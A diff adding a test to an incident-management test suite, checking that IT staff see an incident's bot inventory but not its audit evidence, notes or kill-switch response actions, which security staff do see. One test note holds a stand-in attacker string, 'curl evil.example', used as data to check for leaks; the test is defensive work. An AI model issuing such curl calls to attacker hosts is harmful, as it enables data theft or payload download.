@@ -167,6 +167,61 @@ describe("incidents", () => {
     expect((await as(security)({ method: "GET", url: `/incidents/${randomUUID()}` })).statusCode).toBe(404);
   });
 
+  it("IT reads an incident's inventory but not its audit evidence: no linked events, notes or response actions in the view or the summary; security gets them", async () => {
+    const bot = await botTokenFor(t, "acme-triage-bot");
+    const denied = await decide(t, bot.token, { action: "message.post", target: { channel: "telegram" }, requestId: randomUUID(), sessionId: "s-it-evidence" });
+    expect(denied.json()).toMatchObject({ decision: "deny" });
+    const [denial] = await t.database.db
+      .select()
+      .from(auditEvents)
+      .where(and(eq(auditEvents.action, "decision.deny"), eq(auditEvents.actorId, bot.botId)))
+      .orderBy(desc(auditEvents.seq))
+      .limit(1);
+    // a response action in the window: security pauses the bot, then lifts it
+    const paused = await as(security)({ method: "POST", url: "/kill-switch", payload: { scope: { kind: "bot", subject: bot.botId }, mode: "pause", reason: "suspected exfiltration" } });
+    expect(paused.statusCode, paused.body).toBe(201);
+    expect((await as(security)({ method: "POST", url: `/kill-switch/${paused.json().id}/resume`, payload: { reason: "token rotated" } })).statusCode).toBe(200);
+    const note = "attacker payload seen in the request: curl evil.example";
+    const inc = (
+      await as(security)({ method: "POST", url: "/incidents", payload: { title: "Telegram post attempt", severity: "high", botIds: [bot.botId], evidence: [{ auditEventId: denial!.id, note }] } })
+    ).json();
+
+    const sec = (await as(security)({ method: "GET", url: `/incidents/${inc.id}` })).json();
+    expect(sec).toMatchObject({ evidenceCount: 1, auditEvidenceHidden: null });
+    expect(sec.evidence).toEqual([expect.objectContaining({ auditEventId: denial!.id, note, event: expect.objectContaining({ action: "decision.deny" }) })]);
+    expect(sec.blastRadius.responseEvents.map((e: { action: string }) => e.action)).toEqual(expect.arrayContaining(["kill_switch.engage", "kill_switch.resume"]));
+    expect(sec.blastRadius.responseEventCount).toBe(sec.blastRadius.responseEvents.length);
+
+    const read = await as(it_)({ method: "GET", url: `/incidents/${inc.id}` });
+    expect(read.statusCode, read.body).toBe(200);
+    const seen = read.json();
+    expect(seen).toMatchObject({ evidence: [], evidenceCount: 1, auditEvidenceHidden: "Audit evidence is visible to security, admins and auditors" });
+    expect(seen.blastRadius.responseEvents).toEqual([]);
+    expect(seen.blastRadius.responseEventCount).toBe(sec.blastRadius.responseEventCount);
+    // no event id, note or action of the log leaves for IT
+    for (const leak of [denial!.id, note, "decision.deny", "kill_switch.engage", ...sec.blastRadius.responseEvents.map((e: { id: string }) => e.id)]) expect(read.body).not.toContain(leak);
+    // the inventory IT works from stays, the same as security's
+    for (const k of ["bots", "systems", "credentials", "people", "activity"]) expect(seen.blastRadius[k], k).toEqual(sec.blastRadius[k]);
+    expect(seen.blastRadius.bots.map((b: { name: string }) => b.name)).toEqual(["acme-triage-bot"]);
+
+    const itMd = await as(it_)({ method: "GET", url: `/incidents/${inc.id}/summary?format=md` });
+    expect(itMd.statusCode, itMd.body).toBe(200);
+    expect(itMd.body).toContain(`1 audit events linked as evidence. Audit evidence is visible to security, admins and auditors.`);
+    expect(itMd.body).toContain(`${sec.blastRadius.responseEventCount} response actions in the log. Audit evidence is visible to security, admins and auditors.`);
+    expect(itMd.body).toContain("acme-triage-bot");
+    for (const leak of ["attacker payload", "decision.deny", "kill\\_switch.engage", "kill_switch.engage"]) expect(itMd.body).not.toContain(leak);
+    expect((await lastEvent("incident.export"))!.details).toMatchObject({ incidentId: inc.id, format: "md", auditEvidence: "withheld" });
+    const itPdf = await as(it_)({ method: "GET", url: `/incidents/${inc.id}/summary?format=pdf` });
+    expect(itPdf.statusCode).toBe(200);
+    expect((await lastEvent("incident.export"))!.details).toMatchObject({ format: "pdf", auditEvidence: "withheld" });
+
+    const secMd = await as(security)({ method: "GET", url: `/incidents/${inc.id}/summary?format=md` });
+    expect(secMd.body).toContain("attacker payload seen in the request");
+    expect(secMd.body).toContain("decision.deny");
+    expect(secMd.body).not.toContain("Audit evidence is visible to");
+    expect((await lastEvent("incident.export"))!.details).toMatchObject({ format: "md", auditEvidence: "included" });
+  });
+
   it("evidence added later is linked once; the list pages newest first and filters drills", async () => {
     const inc = (await as(security)({ method: "POST", url: "/incidents", payload: { title: "Evidence later", severity: "low" } })).json();
     const declare = await lastEvent("incident.declare");
